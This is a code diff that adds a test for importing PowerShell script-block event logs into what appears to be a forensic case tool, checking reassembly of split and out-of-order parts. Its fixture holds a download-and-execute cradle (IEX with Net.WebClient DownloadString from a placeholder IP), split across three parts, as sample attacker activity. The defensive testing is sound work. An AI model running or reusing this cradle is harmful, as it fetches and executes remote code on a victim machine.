@@ -7,6 +7,7 @@ import { makeTar, makeZip, sha256 } from '../../test/archives.ts';
 import { corpusFile, corpusSkipReason, hasCorpus } from '../../test/paths.ts';
 import { createBackend } from '../backend/backend.ts';
 import type { CasebookBackend } from '../backend/types.ts';
+import { template, v, type WRecord, writeEvtx, xml } from '../formats/evtx/writer.ts';
 import { writeZeekSample } from '../scenario/zeek-sample.ts';
 
 const open: CasebookBackend[] = [];
@@ -142,6 +143,90 @@ describe('import of a project-made bundle', () => {
     expect(detail.row.dst_ip).toBe(sample.beacon.dst);
     expect(detail.evidence.sha256).toMatch(/^[0-9a-f]{64}$/);
     expect(JSON.parse(detail.data)['id.resp_h']).toBe(sample.beacon.dst);
+  });
+});
+
+describe('import of PowerShell script blocks', () => {
+  const { el, sub } = xml;
+  const scriptBlock = template(
+    el(
+      'Event',
+      { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
+      el(
+        'System',
+        {},
+        el('Provider', { Name: 'Microsoft-Windows-PowerShell', Guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' }),
+        el('EventID', {}, '4104'),
+        el('TimeCreated', { SystemTime: sub(0, 0x11) }),
+        el('EventRecordID', {}, sub(1, 0x0a)),
+        el('Channel', {}, 'Microsoft-Windows-PowerShell/Operational'),
+        el('Computer', {}, 'WKS07.corp.example'),
+      ),
+      el(
+        'EventData',
+        {},
+        el('Data', { Name: 'MessageNumber' }, sub(2, 0x07)),
+        el('Data', { Name: 'MessageTotal' }, sub(3, 0x07)),
+        el('Data', { Name: 'ScriptBlockText' }, sub(4, 0x01)),
+        el('Data', { Name: 'ScriptBlockId' }, sub(5, 0x01)),
+        el('Data', { Name: 'Path' }, sub(6, 0x01)),
+      ),
+    ),
+  );
+  const part = (id: bigint, number: number, total: number, text: string, block: string): WRecord => ({
+    id,
+    written: `2024-03-01T10:20:0${id % 10n}.4410000Z`,
+    template: scriptBlock,
+    values: [
+      v.filetime(`2024-03-01T10:20:0${id % 10n}.4410000Z`),
+      v.uint64(id),
+      v.int32(number),
+      v.int32(total),
+      v.string(text),
+      v.string(block),
+      v.string(''),
+    ],
+  });
+
+  it('stores the reassembled script in the first part', async () => {
+    const { backend, dir } = await newCase();
+    const cradle = ["$u='http://192.0.2.7/a.ps1'\n$x=1; IE", 'X (New-Object Net.WebC', 'lient).DownloadString($u)\n'];
+    const file = path.join(dir, 'PowerShell.evtx');
+    // Parts arrive out of order, with an unrelated single-part block in between.
+    await writeFile(
+      file,
+      writeEvtx([
+        part(1n, 2, 3, cradle[1]!, 'b1'),
+        part(2n, 1, 1, 'Get-Date', 'b2'),
+        part(3n, 3, 3, cradle[2]!, 'b1'),
+        part(4n, 1, 3, cradle[0]!, 'b1'),
+        part(5n, 2, 2, 'Out-Null', 'b3'),
+      ]),
+    );
+
+    const progress = await importPaths(backend, [file]);
+    expect(progress.files[0]).toMatchObject({ status: 'imported', records: 5 });
+    expect(progress.files[0]!.messages).toContain(
+      "2 multi-part PowerShell script blocks reassembled, 1 with parts missing: the whole script is in the data of each block's first part",
+    );
+
+    const carrier = await backend.timelinePage({ search: 'b1 reassembled' }, 0, 10);
+    expect(carrier.rows).toHaveLength(1);
+    expect(carrier.rows[0]!.message).toContain('DownloadString($u)');
+    const detail = JSON.parse((await backend.eventDetail(carrier.rows[0]!.event_id)).data);
+    expect(detail.EventData.MessageNumber).toBe('1');
+    expect(detail.ScriptBlock.Text).toBe(cradle.join(''));
+    expect(detail.ScriptBlock.Parts.map((p: { EventRecordID: string }) => p.EventRecordID)).toEqual(['4', '1', '3']);
+
+    const parts = await backend.timelinePage({ search: 'b1' }, 0, 10);
+    expect(parts.matched).toBe(3);
+    for (const row of parts.rows) expect(JSON.parse((await backend.eventDetail(row.event_id)).data).ScriptBlock.Id).toBe('b1');
+    const single = await backend.timelinePage({ search: 'b2' }, 0, 10);
+    expect(JSON.parse((await backend.eventDetail(single.rows[0]!.event_id)).data).ScriptBlock).toBeUndefined();
+    const incomplete = await backend.timelinePage({ search: 'b3' }, 0, 10);
+    expect(incomplete.rows[0]!.message).toBe(
+      'Script block (part 2 of 2, id b3, reassembled, part 1 of 2 missing): <# part 1 of 2 missing #>\\nOut-Null',
+    );
   });
 });
 
